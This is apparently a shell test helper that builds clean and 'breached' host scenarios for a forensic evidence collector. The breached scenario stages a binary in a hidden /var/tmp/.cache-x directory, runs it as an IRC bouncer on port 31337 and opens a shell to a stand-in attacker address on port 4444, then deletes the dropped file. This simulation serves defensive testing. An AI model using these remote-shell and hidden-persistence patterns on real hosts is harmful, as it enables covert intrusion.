#!/bin/sh
# Sourced by tests that examine the host of host.py: its archives.

# Archive $2 of the disk of the host $1, breached or clean.
scenario_disk() {
	PATH=$PATH:/sbin:/usr/sbin
	for _tool in mke2fs debugfs python3; do
		command -v "$_tool" >/dev/null || { echo "needs $_tool" >&2; exit 77; }
	done
	python3 "$SRCDIR/tests/scenario/host.py" "$1" "$1.image" >/dev/null 2>&1
	mkdir -p "$1.root"
	mount -o loop,ro "$1.image" "$1.root" 2>/dev/null || { echo "needs a loop device" >&2; exit 77; }
	"$EXHIBIT_COLLECT" --quiet --root "$1.root" --profile triage -o "$2"
	umount "$1.root"
	rm "$1.image"
}

# Archive $2 of what runs on the host $1. Call fixture_alone and fixture_own_network first: the
# processes end with the first, the addresses are in the second.
scenario_live() {
	"$("$SRCDIR/scripts/build-deps.sh" --print)/bin/cc-musl" -std=c11 -D_GNU_SOURCE -O1 -Wall -Wextra -Werror \
		"$SRCDIR/tests/scenario/channel.c" -o channel
	./channel up 192.0.2.80 192.0.2.10 203.0.113.66 198.51.100.23
	./channel serve 192.0.2.80 22 &
	./channel serve 198.51.100.23 6667 &
	./channel serve 203.0.113.66 4444 &
	for _port in 0016 1A0B 115C; do fixture_until grep -q ":$_port .* 0A " /proc/net/tcp; done
	if [ "$1" = breached ]; then
		mount -t tmpfs none /var/tmp
		mkdir /var/tmp/.cache-x
		cp channel /var/tmp/.cache-x/bnc
		/var/tmp/.cache-x/bnc bounce 198.51.100.23 6667 31337 &
		./channel shell 203.0.113.66 4444 &
		fixture_until fixture_runs "$!" "$(readlink -f /bin/sh)"
		fixture_until test ! -e /var/tmp/.cache-x/bnc
	fi
	"$EXHIBIT_COLLECT" --quiet --profile live --exclude "$(pwd)/**" -o "$2" || [ $? -eq 1 ]
}
